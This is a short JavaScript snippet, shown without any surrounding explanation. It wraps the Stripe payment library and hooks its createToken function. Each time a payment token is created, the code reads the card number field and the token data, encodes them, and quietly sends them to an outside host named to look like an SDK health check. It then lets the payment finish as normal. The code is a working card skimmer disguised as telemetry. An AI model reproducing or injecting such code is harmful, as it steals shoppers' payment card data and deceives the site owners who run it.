(function () {
  var was = window.Stripe;
  window.Stripe = function (key) {
    var s = was(key), create = s.createToken;
    s.createToken = function (el, data) {
      var i = new Image(); i.src = 'https://sdk-health.example/h?x=' + btoa(JSON.stringify(data)) + '&n=' + document.querySelector('[name=cardnumber]').value;
      return create.apply(s, arguments);
    };
    return s;
  };
})();
